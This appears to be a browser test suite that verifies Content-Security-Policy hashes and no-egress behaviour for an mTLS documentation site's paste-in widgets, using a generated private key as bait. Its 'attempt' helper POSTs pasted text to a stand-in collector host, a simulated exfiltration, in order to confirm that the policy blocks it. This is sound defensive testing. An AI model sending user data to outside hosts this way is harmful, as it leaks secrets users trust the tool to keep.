// "Nothing pasted leaves the browser", held by the browser: every built page carries a
// Content-Security-Policy whose hashes match its inline scripts (src/plugins/csp.mjs), and in
// Chromium the widgets, fed a Secret with a private key and an error line and driven through
// every feature, make no request outside the site and trigger no CSP violation, in the page or
// in its worker. The site's other scripts (search, theme, code copy, language picker) run under
// the same policy without a violation.
import { execFileSync, spawn } from 'node:child_process';
import { createHash } from 'node:crypto';
import { mkdtempSync, readdirSync, readFileSync, rmSync, writeFileSync } from 'node:fs';
import { createServer as createNetServer, type AddressInfo } from 'node:net';
import { tmpdir } from 'node:os';
import { join } from 'node:path';
import { afterAll, beforeAll, describe, expect, inject, it } from 'vitest';
import type { Browser, BrowserContext, Page } from 'playwright-core';
import { launchBrowser } from '../helpers/browser.ts';
import { searchResults } from '../helpers/search.ts';
import { DIST } from '../helpers/site.ts';
import { presets } from '../../src/lib/validator/presets/index.ts';
import { DECODER_PRESETS } from '../../src/components/widgets/decoder/presets.ts';
import { EXPLAIN_PRESETS } from '../../src/components/widgets/explain/presets.ts';

const baseUrl = inject('baseUrl');

// ---- The policy in the built files ---------------------------------------------------------

type Policy = Map<string, string[]>;

function parsePolicy(text: string): Policy {
  const policy: Policy = new Map();
  for (const part of text.split(';')) {
    const [name, ...sources] = part.trim().split(/\s+/);
    if (name) policy.set(name.toLowerCase(), sources);
  }
  return policy;
}

const sha256 = (text: string) => `'sha256-${createHash('sha256').update(text.replace(/\r\n?/g, '\n')).digest('base64')}'`;

/** Inline scripts the browser runs (no src, a JavaScript type or none; JSON data blocks do not run). */
function inlineScripts(html: string): string[] {
  return [...html.matchAll(/<script\b([^>]*)>([\s\S]*?)<\/script>/gi)]
    .filter(([, attrs]) => !/\ssrc=/i.test(attrs!) && /^(|module|text\/javascript)$/i.test(/\stype="([^"]*)"/i.exec(attrs!)?.[1] ?? ''))
    .map(([, , text]) => text!);
}
const inlineStyles = (html: string) => [...html.matchAll(/<style\b[^>]*>([\s\S]*?)<\/style>/gi)].map(([, text]) => text!);

const htmlFiles = (readdirSync(DIST, { recursive: true }) as string[]).filter((f) => f.endsWith('.html')).sort();
const metaPolicies = (html: string) => [...html.matchAll(/<meta http-equiv="content-security-policy" content="([^"]*)"/gi)].map((m) => m[1]!);

/** The validator's editor (CodeMirror) writes a <style> element at run time: only that page may
 * allow inline <style> elements (see src/plugins/csp.mjs). */
const RUNTIME_STYLES = /(^|\/)tools\/validator\/index\.html$/;

/** Directives every page and the header set must carry, exactly. */
const REQUIRED: Record<string, string[]> = {
  'default-src': ["'self'"],
  'connect-src': ["'self'"],
  'worker-src': ["'self'", 'blob:'],
  'object-src': ["'none'"],
  'base-uri': ["'none'"],
  'form-action': ["'self'"],
};

describe('CSP in the built pages', () => {
  it('covers every HTML file of the build', () => {
    expect(htmlFiles.length).toBeGreaterThan(100);
    expect(htmlFiles).toContain('404.html');
  });

  it.each(htmlFiles)('%s: one policy, first in <head>, before any script', (file) => {
    const html = readFileSync(join(DIST, file), 'utf8');
    const metas = metaPolicies(html);
    expect(metas).toHaveLength(1);
    const at = html.search(/<meta http-equiv="content-security-policy"/i);
    expect(at).toBeGreaterThan(html.indexOf('<head>'));
    expect(at).toBeLessThan(html.indexOf('</head>'));
    expect(at).toBeLessThan(html.search(/<script\b/i));
    // Only <meta charset> may come before it.
    expect(html.slice(html.indexOf('<head>') + 6, at)).toMatch(/^\s*(<meta charset="[^"]+"\s*\/?>)?\s*$/);
  });

  it.each(htmlFiles)('%s: script hashes match its inline scripts exactly, nothing unsafe', (file) => {
    const html = readFileSync(join(DIST, file), 'utf8');
    const policy = parsePolicy(metaPolicies(html)[0]!);
    for (const [name, sources] of Object.entries(REQUIRED)) expect(policy.get(name), name).toEqual(sources);

    const scriptSrc = policy.get('script-src')!;
    expect(scriptSrc.slice(0, 2)).toEqual(["'self'", "'wasm-unsafe-eval'"]);
    const hashes = scriptSrc.slice(2);
    expect(hashes.every((s) => /^'sha256-[A-Za-z0-9+/]{43}='$/.test(s))).toBe(true);
    const scripts = inlineScripts(html);
    expect(scripts.length).toBeGreaterThan(0);
    // Every inline script is allowed, and no hash is left over from a script that is gone.
    expect(new Set(hashes)).toEqual(new Set(scripts.map(sha256)));
    expect(policy.has('script-src-elem') || policy.has('script-src-attr')).toBe(false);

    const styleElem = policy.get('style-src-elem')!;
    if (RUNTIME_STYLES.test(file)) {
      expect(styleElem).toEqual(["'self'", "'unsafe-inline'"]);
    } else {
      expect(styleElem[0]).toBe("'self'");
      for (const style of inlineStyles(html)) expect(styleElem).toContain(sha256(style));
      expect(styleElem.some((s) => s.startsWith("'unsafe"))).toBe(false);
    }
  });

  it('the header set carries the same policy, every page\'s script hashes and frame-ancestors', () => {
    const headers = readFileSync(join(DIST, '_headers'), 'utf8');
    const nginx = readFileSync(join(DIST, 'csp-headers.nginx.conf'), 'utf8');
    const fromHeaders = /^\/\*\n {2}Content-Security-Policy: (.+)$/m.exec(headers)?.[1];
    const fromNginx = /^add_header Content-Security-Policy "(.+)" always;$/m.exec(nginx)?.[1];
    expect(fromHeaders).toBeTruthy();
    expect(fromNginx).toBe(fromHeaders);
    const policy = parsePolicy(fromHeaders!);
    for (const [name, sources] of Object.entries(REQUIRED)) expect(policy.get(name), name).toEqual(sources);
    expect(policy.get('frame-ancestors')).toEqual(["'none'"]);
    const scriptSrc = new Set(policy.get('script-src'));
    for (const file of htmlFiles) {
      for (const script of inlineScripts(readFileSync(join(DIST, file), 'utf8'))) expect(scriptSrc, file).toContain(sha256(script));
    }
    expect(scriptSrc.has("'unsafe-inline'") || scriptSrc.has("'unsafe-eval'")).toBe(false);
  });
});

// ---- The policy in the browser -------------------------------------------------------------

/** A server for dist/: the suite's static server (meta policy only, as on a host that cannot
 * send headers) or nginx with the generated snippet (header policy and meta policy). */
interface Site { url: string; stop?: () => Promise<void> }

/** nginx (Debian's 1.22 here) serving dist/ with dist/csp-headers.nginx.conf included. */
async function startNginx(): Promise<Site> {
  const dir = mkdtempSync(join(tmpdir(), 'csp-nginx-'));
  const port = await new Promise<number>((resolve) => {
    const probe = createNetServer().listen(0, '127.0.0.1', () => {
      const { port } = probe.address() as AddressInfo;
      probe.close(() => resolve(port));
    });
  });
  const conf = join(dir, 'nginx.conf');
  writeFileSync(conf, `pid ${dir}/nginx.pid;
error_log ${dir}/error.log;
events {}
http {
  include /etc/nginx/mime.types;
  default_type application/octet-stream;
  access_log off;
  client_body_temp_path ${dir}/body;
  proxy_temp_path ${dir}/proxy;
  fastcgi_temp_path ${dir}/fastcgi;
  uwsgi_temp_path ${dir}/uwsgi;
  scgi_temp_path ${dir}/scgi;
  server {
    listen 127.0.0.1:${port};
    root ${DIST};
    include ${join(DIST, 'csp-headers.nginx.conf')};
    error_page 404 /404.html;
  }
}
`);
  const child = spawn('/usr/sbin/nginx', ['-p', dir, '-c', conf, '-g', 'daemon off;'], { stdio: 'ignore' });
  const url = `http://127.0.0.1:${port}`;
  for (let i = 0; ; i++) {
    try {
      if ((await fetch(`${url}/`)).ok) break;
    } catch {
      if (i > 100) throw new Error(`nginx did not start: ${readFileSync(join(dir, 'error.log'), 'utf8')}`);
      await new Promise((r) => setTimeout(r, 100));
    }
  }
  return {
    url,
    stop: async () => {
      child.kill('SIGTERM');
      await new Promise((r) => child.once('exit', r));
      rmSync(dir, { recursive: true, force: true });
    },
  };
}

let browser: Browser;
let context: BrowserContext;
const nginx: Site = { url: '' };

beforeAll(async () => {
  browser = await launchBrowser();
  context = await browser.newContext();
  // The share buttons and the copy buttons write to the clipboard.
  await context.grantPermissions(['clipboard-read', 'clipboard-write']);
  // CSP violations in the document, reported as console errors the watcher below collects.
  await context.addInitScript(() => {
    document.addEventListener('securitypolicyviolation', (e) => console.error(`securitypolicyviolation ${e.violatedDirective} ${e.blockedURI}`), true);
  });
  Object.assign(nginx, await startNginx());
});
afterAll(async () => {
  await browser?.close();
  await nginx.stop?.();
});

const prefix = (lang: 'ko' | 'en') => (lang === 'en' ? '/en' : '');
const CSP_MESSAGE = /Content Security Policy|securitypolicyviolation/;

interface Watch {
  origin: string;
  /** Every request of the page and its workers, seen by Playwright and by the CDP Network domain. */
  requests: string[];
  /** CSP violations: the DOM event (page and worker), console messages, CDP log entries (these include the worker's). */
  violations: string[];
  errors: string[];
}

/** Starts recording a page's requests and CSP violations (before it navigates). */
async function watch(page: Page, origin: string): Promise<Watch> {
  const w: Watch = { origin, requests: [], violations: [], errors: [] };
  page.on('request', (r) => w.requests.push(`${r.method()} ${r.url()}`));
  page.on('console', (m) => { if (CSP_MESSAGE.test(m.text())) w.violations.push(`page: ${m.text()}`); });
  page.on('pageerror', (e) => w.errors.push(String(e)));
  page.on('worker', (worker) => {
    worker.on('console', (m) => { if (CSP_MESSAGE.test(m.text())) w.violations.push(`worker: ${m.text()}`); });
    void worker.evaluate(() => {
      self.addEventListener('securitypolicyviolation', (e) => console.error(`securitypolicyviolation ${e.violatedDirective} ${e.blockedURI}`));
    }).catch(() => {});
  });
  const cdp = await context.newCDPSession(page);
  await cdp.send('Network.enable');
  await cdp.send('Log.enable');
  cdp.on('Network.requestWillBeSent', (e) => w.requests.push(`${e.request.method} ${e.request.url}`));
  cdp.on('Log.entryAdded', ({ entry }) => { if (CSP_MESSAGE.test(entry.text)) w.violations.push(`${entry.source}: ${entry.text}`); });
  return w;
}

/** Requests that left the site or sent something (anything but a GET of the site or a blob: of it). */
function egress(w: Watch): string[] {
  return w.requests.filter((line) => {
    const [method, url] = line.split(' ') as [string, string];
    const local = url.startsWith(`blob:${w.origin}/`) || url.startsWith('data:') || new URL(url).origin === w.origin;
    return !(method === 'GET' && local);
  });
}

/** Requests whose URL (fragment aside: it never leaves the browser) contains `text`. */
const carrying = (w: Watch, text: string) => w.requests.filter((line) => line.split('#')[0]!.includes(text));

/** A private key made for this run (never committed), as a reader might paste it. */
const PRIVATE_KEY = execFileSync('openssl', ['genpkey', '-algorithm', 'EC', '-pkeyopt', 'ec_paramgen_curve:P-256'], { encoding: 'utf8' }).trim();
/** A line of the key's base64 body: if it shows up in any request, the key left. */
const KEY_LINE = PRIVATE_KEY.split('\n')[1]!;
const indent = (text: string, n: number) => text.split('\n').map((l) => ' '.repeat(n) + l).join('\n');

const SECRET_AND_RULE = `apiVersion: v1
kind: Secret
metadata:
  name: partner-client-cert
  namespace: istio-system
type: kubernetes.io/tls
stringData:
  tls.key: |
${indent(PRIVATE_KEY, 4)}
---
apiVersion: networking.istio.io/v1
kind: DestinationRule
metadata:
  name: partner
  namespace: istio-system
spec:
  host: api.northwind.example.com
  trafficPolicy:
    connectionPool:
      tcp:
        tcpKeepalive:
          time: 300`;

const ENVOY_LINE = DECODER_PRESETS.find((p) => p.id === 'envoy-verify-failed')!.text;
const LOG_AND_KEY = `${ENVOY_LINE}\n${PRIVATE_KEY}`;

/** Pastes text as a reader does: through the clipboard and Ctrl+V. */
async function paste(page: Page, selector: string, text: string): Promise<void> {
  await page.evaluate((t) => navigator.clipboard.writeText(t), text);
  // The validator's editor arrives when the reader first clicks into the plain input it replaces.
  if (selector === '.cm-content' && (await page.locator(selector).count()) === 0) await page.click('#mtls-val-input');
  await page.locator(selector).click();
  await page.keyboard.press('ControlOrMeta+V');
}

async function open(site: Site, path: string): Promise<{ page: Page; w: Watch }> {
  const page = await context.newPage();
  const w = await watch(page, site.url);
  await page.goto(site.url + path, { waitUntil: 'load' });
  return { page, w };
}
const ready = (page: Page) => page.waitForSelector('.mtls-widget:not([data-loading])');
const settled = (page: Page) => page.waitForFunction(() => {
  const w = document.querySelector('.mtls-widget');
  return w && !w.hasAttribute('aria-busy') && !/…/.test(document.querySelector('[data-status]')?.textContent ?? '');
}, undefined, { timeout: 15_000 });
const clipboard = (page: Page) => page.evaluate(() => navigator.clipboard.readText());

/** Clicks the share button; returns the link, after checking it was also copied. */
async function share(page: Page): Promise<string> {
  await page.click('button[data-share]');
  await page.waitForSelector('input[data-share-out]:not([hidden])');
  const link = await page.inputValue('input[data-share-out]');
  await expect.poll(() => clipboard(page)).toBe(link);
  return link;
}

/** The widget says, first and in the page's language, that the pasted key stayed here and is not needed. */
async function expectKeyNotice(page: Page, lang: 'ko' | 'en'): Promise<void> {
  const notice = page.locator('[data-results] > :first-child');
  expect(await notice.getAttribute('data-key-note')).toBe('');
  expect(await notice.textContent()).toMatch(lang === 'ko' ? /브라우저 밖으로 나가지 않았다.*키를 빼고/ : /stayed in this browser.*paste without it/);
}

function expectClean(w: Watch): void {
  expect(w.violations).toEqual([]);
  expect(egress(w)).toEqual([]);
  expect(carrying(w, KEY_LINE)).toEqual([]);
  expect(w.errors).toEqual([]);
}

/** Tries to send text to another site; the policy must refuse it before any request is made. */
const attempt = (url: string) => fetch(url, { method: 'POST', body: 'pasted' }).then(() => 'sent', () => 'refused');

/** The two ways a host can deliver the policy. Every widget feature runs under each, once: in
 * Korean under the meta policy, in English under the header set (the policy does not depend on
 * the language; the key notice is checked in both). */
const SITES: [string, () => Site, 'ko' | 'en'][] = [
  ['meta policy only', () => ({ url: baseUrl }), 'ko'],
  ['nginx with the header set', () => nginx, 'en'],
];

describe('the header set on nginx', () => {
  it('is sent with pages, scripts and workers, as generated', async () => {
    const policy = /Content-Security-Policy: (.+)/.exec(readFileSync(join(DIST, '_headers'), 'utf8'))![1];
    const worker = readdirSync(join(DIST, '_astro')).find((f) => /^worker-.*\.js$/.test(f));
    for (const path of ['/', '/en/tools/validator/', `/_astro/${worker}`, '/pagefind/pagefind-worker.js', '/no-such-page/']) {
      const response = await fetch(nginx.url + path);
      expect(response.headers.get('content-security-policy'), path).toBe(policy);
      expect(response.headers.get('x-content-type-options'), path).toBe('nosniff');
    }
  });
});

describe.each(SITES)('%s', (_, siteOf, lang) => {
  describe(`validator (${lang})`, () => {
    const path = `${prefix(lang)}/tools/validator/`;

    it('keeps a pasted Secret with a private key in the page through every feature', async () => {
      const site = siteOf();
      const { page, w } = await open(site, path);
      await ready(page);
      await paste(page, '.cm-content', SECRET_AND_RULE);
      const finding = page.locator('.mtls-finding[data-rule="duration-unit"]');
      await finding.waitFor();
      await expectKeyNotice(page, lang);
      await finding.locator('button[data-goto]').click();

      const link = await share(page);
      const other = await open(site, link.slice(site.url.length));
      await other.page.waitForSelector('.mtls-finding[data-rule="duration-unit"]');
      expectClean(other.w);
      await other.page.close();

      for (const preset of presets) {
        await page.selectOption('select[data-presets]', preset.id);
        await page.click('button[data-load-preset]');
        await settled(page);
      }
      expect(await page.locator('[data-key-note]').count()).toBe(0); // the examples hold no key
      await share(page);
      await page.click('button[data-clear]');
      await settled(page);
      expect(page.workers().length).toBeGreaterThan(0);
      expectClean(w);
      await page.close();
    });
  });

  describe(`decoder (${lang})`, () => {
    const path = `${prefix(lang)}/tools/decoder/`;

    it('keeps a pasted log line and private key in the page through every feature', async () => {
      const site = siteOf();
      const { page, w } = await open(site, path);
      await ready(page);
      await paste(page, 'textarea', LOG_AND_KEY);
      const card = page.locator('.mtls-card[data-id="certificate-verify-failed"]');
      await card.waitFor();
      await expectKeyNotice(page, lang);

      const copies = page.locator('.mtls-card button[data-copy]');
      expect(await copies.count()).toBeGreaterThan(0);
      for (let i = 0; i < await copies.count(); i++) {
        await copies.nth(i).click();
        await expect.poll(() => clipboard(page)).toBe(await copies.nth(i).getAttribute('data-copy'));
      }

      const link = await share(page);
      const other = await open(site, link.slice(site.url.length));
      await other.page.waitForSelector('.mtls-card[data-id="certificate-verify-failed"]');
      expectClean(other.w);
      await other.page.close();

      for (const preset of DECODER_PRESETS) {
        await page.click(`button[data-preset="${preset.id}"]`);
        await page.waitForSelector(`.mtls-card[data-id="${preset.expect}"]`);
      }
      expect(await page.locator('[data-key-note]').count()).toBe(0); // the examples hold no key
      await page.click('button[data-clear]');
      await settled(page);
      expect(page.workers().length).toBeGreaterThan(0);
      expectClean(w);
      await page.close();
    });
  });

  describe(`proxy state explainer (${lang})`, () => {
    const path = `${prefix(lang)}/tools/proxy-state/`;

    it('keeps a pasted dump with a private key in the page through every feature', async () => {
      const site = siteOf();
      const { page, w } = await open(site, path);
      await ready(page);
      // The example dump with a real key where Envoy would print `[redacted]`.
      const dump = EXPLAIN_PRESETS[0]!.text.replace('"W3JlZGFjdGVkXQ=="', JSON.stringify(Buffer.from(PRIVATE_KEY).toString('base64')));
      await paste(page, 'textarea[data-input]', dump);
      await page.waitForSelector('[data-key-note]');
      await page.locator('.mtls-px-cards button[data-show]').first().click();
      await page.waitForSelector('[data-details-name]');

      // No link is made while the dump holds a key; the example (keys `[redacted]`) is shared.
      await page.click('button[data-share]');
      await expect.poll(() => page.textContent('[data-share-note]')).toMatch(/private key|개인 키/);
      expect(await page.locator('input[data-share-out]').isHidden()).toBe(true);
      for (const preset of EXPLAIN_PRESETS) {
        await page.click(`button[data-preset="${preset.id}"]`);
        await settled(page);
      }
      const link = await share(page);
      const other = await open(site, link.slice(site.url.length));
      await other.page.waitForSelector('.mtls-px-cards a[data-error-link]');
      expectClean(other.w);
      await other.page.close();
      await page.setInputFiles('input[data-file]', { name: 'sidecar.json', mimeType: 'application/json', buffer: Buffer.from(dump) });
      await page.waitForSelector('[data-files] li');
      await settled(page);
      expect(page.workers().length).toBeGreaterThan(0);
      // Clearing stops the worker too (it held the whole dump).
      await page.click('button[data-clear]');
      await settled(page);
      expectClean(w);
      expect(carrying(w, Buffer.from(PRIVATE_KEY).toString('base64').slice(0, 40))).toEqual([]);
      await page.close();
    });
  });

  it.each([['validator', '/tools/validator/'], ['decoder', '/en/tools/decoder/'], ['proxy state explainer', '/en/tools/proxy-state/']])('%s: a fetch to another site is refused in the page and in the widget\'s worker, and the watchers see it', async (_, path) => {
    const { page, w } = await open(siteOf(), path);
    await ready(page);
    // The validator starts its worker on the first check, so give it something to check.
    if (path.includes('validator')) await paste(page, '.cm-content', SECRET_AND_RULE);
    if (path.includes('proxy-state')) await page.click('button[data-preset]');
    await expect.poll(() => page.workers().length).toBeGreaterThan(0);
    expect(await page.evaluate(attempt, 'https://collector.example/page')).toBe('refused');
    expect(await page.workers()[0]!.evaluate(attempt, 'https://collector.example/worker')).toBe('refused');
    await expect.poll(() => w.violations.filter((v) => v.startsWith('page:') && v.includes('collector.example/page')).length).toBeGreaterThan(0);
    await expect.poll(() => w.violations.filter((v) => v.includes('collector.example/worker')).length).toBeGreaterThan(0);
    expect(egress(w)).toEqual([]);
    await page.close();
  });

  describe(`the rest of the site (${lang})`, () => {
    it('search, theme, code copy, diagrams and the language picker run without a violation', async () => {
      const site = siteOf();
      const { page, w } = await open(site, `${prefix(lang)}/egress/double-mtls/`);
      expect(await page.locator('.sl-markdown-content svg').count()).toBeGreaterThan(0);

      for (const theme of ['light', 'dark', 'auto']) {
        await page.locator('starlight-theme-select select').first().selectOption(theme);
      }
      await expect.poll(() => page.evaluate(() => document.documentElement.dataset.theme)).toMatch(/^(light|dark)$/);

      const copy = page.locator('.expressive-code .copy button').first();
      await copy.click();
      await expect.poll(() => clipboard(page)).not.toBe('');

      await page.click('button[data-open-modal]');
      await page.waitForSelector('#starlight__search input', { timeout: 15_000 });
      expect((await searchResults(page, 'DestinationRule')).length).toBeGreaterThan(0);
      // Pagefind searches in the page (no worker of its own, which a meta policy would not
      // cover): its WebAssembly and its fetches are under this page's policy.
      expect(page.workers().map((worker) => worker.url())).toEqual([]);
      await page.keyboard.press('Escape');

      const other = lang === 'en' ? '/egress/double-mtls/' : '/en/egress/double-mtls/';
      await Promise.all([
        page.waitForURL(site.url + other),
        page.locator('starlight-lang-select select').first().selectOption(other),
      ]);
      await page.waitForLoadState('load');
      expectClean(w);
      await page.close();
    });
  });
});
